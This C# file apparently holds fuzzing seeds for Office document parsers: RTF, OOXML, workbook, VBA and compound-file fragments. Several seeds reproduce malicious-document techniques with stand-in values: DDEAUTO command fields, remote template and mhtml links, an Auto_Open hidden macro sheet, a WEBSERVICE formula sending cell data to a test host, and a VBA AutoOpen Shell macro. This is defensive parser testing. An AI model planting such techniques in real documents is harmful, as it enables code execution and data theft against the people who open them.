using System.Text;

namespace Platform.Fuzz.Targets.Office;

/// <summary>Small files near to what each reader reads, and the pieces that mean something to it.</summary>
internal static class OfficeInputs
{
    public static IReadOnlyList<byte[]> Octets { get; } =
    [
        [0], [0xFF], [0xFE, 0xFF, 0xFF, 0xFF], [0xFF, 0xFF, 0xFF, 0xFF], [1, 0], [9, 8], [0x85, 0], [0xFC, 0], [0x3C, 0], [0x18, 0], [6, 0], [0x17], [0x41, 111, 0], [0x42, 2, 110, 0], [0x24, 0, 0, 0, 0], [0x2F, 0], [0xB9, 0], [0x19, 0], [0x1A, 0], [0x31, 0, 4, 0, 0, 0], [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], .. "_VBA_PROJECT|dir|Workbook|\u0001Ole10Native|Equation Native".Split('|').Select(Encoding.Unicode.GetBytes),
    ];

    public static string RichTextTokens => @"{|}|\|\*|{\*\|\object|\objdata |\objclass |\objupdate|\bin5 |\'41|\u8364?|\uc2 |\fldinst |\template |\sn |\pict|\par |0105000002000000|d0cf11e0a1b11ae1|DDEAUTO|QUOTE 99 |http://x.test/| ";

    public static string[] RichText { get; } =
    [
        @"\ansi\ansicpg932 text \'93\'fa\par{\field{\*\fldinst {DDEAUTO c:\\\\x.exe ""/c""}}{\fldrslt y}}}",
        @"{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata 0105000002000000 0b0000004571756174696f6e2e3300 00000000 00000000 04000000 {\*\x 1}d0cf11e0}}}",
        @"{\*\template http://x.test/a}{\shp{\*\shpinst{\sp{\sn pFragments}{\sv 1}}}}}",
    ];

    public static string PackageTokens => "<|>|</|/>|=\"|\"|&amp;|<!DOCTYPE a [<!ENTITY b \"c\">]>|<Relationship Id=\"r1\" Type=\"x/attachedTemplate\" Target=\"http://x.test/\" TargetMode=\"External\"/>|<w:fldChar w:fldCharType=\"begin\"/>|<w:instrText>DDE</w:instrText>|<sheet name=\"a\" state=\"hidden\" r:id=\"r1\"/>|<c r=\"A1\" t=\"s\"><f>EXEC(1)</f><v>0</v></c>|<si><t>a</t></si>|mhtml:|\\\\203.0.113.9\\a";

    public static string[] Package { get; } =
    [
        "<w:document xmlns:w=\"w\" xmlns:r=\"r\"><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO cmd \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:t>text</w:t></w:r></w:p></w:document>",
        "<Relationships xmlns=\"r\"><Relationship Id=\"r1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"r2\" Type=\"x/xlMacrosheet\" Target=\"macrosheets/sheet2.xml\"/><Relationship Id=\"r3\" Type=\"x/oleObject\" Target=\"mhtml:http://x.test/!x-usc:http://x.test/\" TargetMode=\"External\"/></Relationships>",
        "<workbook xmlns=\"s\" xmlns:r=\"r\"><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"r1\"/><sheet name=\"m\" state=\"veryHidden\" r:id=\"r2\"/></sheets><definedNames><definedName name=\"_xlnm.Auto_Open\">m!$A$1</definedName></definedNames></workbook>",
        "<worksheet xmlns=\"s\"><sheetData><row><c r=\"A1\" t=\"inlineStr\"><is><t>x</t></is></c><c r=\"A2\"><f>WEBSERVICE(\"http://x.test/\"&amp;A1)</f><v>0</v></c></row></sheetData></worksheet>",
    ];

    public static IReadOnlyList<byte[]> Workbook { get; } =
    [
        Convert.FromHexString("0908100000060500000000000000000000000000850009004500000002010100 6d 00ae0104000100010417000800010000000000000018001600200000010700000000000000000000000000 013a000000000000000a00000009081000000640000000000000000000000000000600200000000000 0f000000000000000000000000000000 0a00 17046100616c63 42016e00 0a000000".Replace(" ", "", StringComparison.Ordinal)),
    ];

    public static IReadOnlyList<byte[]> Project { get; } =
    [
        [1, 0x19, 0xB0, 0, 0x01, 0, 4, 0, 0, 0, 1, 0, 0, 0, 0, 0, 3, 0, 2, 0, 0, 0, 0xE4, 4, 0, 0x19, 0, 1],
        [0x03, 0, 2, 0, 0, 0, 0xE4, 4, 9, 0, 4, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0x19, 0, 1, 0, 0, 0, (byte)'m', 0x1A, 0, 1, 0, 0, 0, (byte)'m', 0x31, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0x2B, 0, 0, 0, 0, 0],
        Encoding.ASCII.GetBytes("Attribute VB_Name = \"m\"\r\nPrivate Declare PtrSafe Function f Lib \"kernel32\" Alias \"WinExec\" (x) As Long\r\nSub AutoOpen()\r\n  Shell \"a\" & _\r\n  Chr(99) & \"b\"\"c\" ' end\r\nEnd Sub\r\n"),
    ];

    /// <summary>A header, a FAT, a directory with a storage and two streams, a mini FAT and a mini stream, one sector each.</summary>
    public static IReadOnlyList<byte[]> Compound { get; } = [SmallFile()];

    private static byte[] SmallFile()
    {
        var file = new byte[512 * 5];
        Convert.FromHexString("D0CF11E0A1B11AE1").CopyTo(file, 0);
        file[30] = 9;
        file[32] = 6;
        file[44] = 1;
        Number(48, 1);
        Number(56, 4_096);
        Number(60, 2);
        file[64] = 1;
        Number(68, unchecked((int)0xFFFFFFFE));
        file.AsSpan(76, 436).Fill(0xFF);
        Number(76, 0);
        file.AsSpan(512, 512).Fill(0xFF);
        Number(512, unchecked((int)0xFFFFFFFD));
        for (var sector = 1; sector <= 3; sector++)
            Number(512 + (4 * sector), unchecked((int)0xFFFFFFFE));
        Entry(0, "Root Entry", 5, child: 1, start: 3, size: 512);
        Entry(1, "VBA", 1, child: 2, start: 0, size: 0);
        Entry(2, "dir", 2, child: -1, start: 0, size: 60);
        Entry(3, "\u0001Ole10Native", 2, child: -1, start: 1, size: 60);
        Number(1_024 + (2 * 128) + 72, 3);
        file.AsSpan(1_536, 512).Fill(0xFF);
        Number(1_536, unchecked((int)0xFFFFFFFE));
        Number(1_540, unchecked((int)0xFFFFFFFE));
        Project[0].CopyTo(file, 2_048);
        ((byte[])[40, 0, 0, 0, 2, 0, (byte)'a', 0, (byte)'b', 0, 0, 0, 3, 0, 2, 0, 0, 0, (byte)'c', 0, 3, 0, 0, 0, 1, 2, 3]).CopyTo(file, 2_112);
        return file;

        void Number(int at, int value) => BitConverter.GetBytes(value).CopyTo(file, at);

        void Entry(int index, string name, byte kind, int child, int start, int size)
        {
            var at = 1_024 + (128 * index);
            Encoding.Unicode.GetBytes(name).CopyTo(file, at);
            file[at + 64] = (byte)((name.Length + 1) * 2);
            file[at + 66] = kind;
            Number(at + 68, -1);
            Number(at + 72, -1);
            Number(at + 76, child);
            Number(at + 116, start);
            Number(at + 120, size);
        }
    }
}
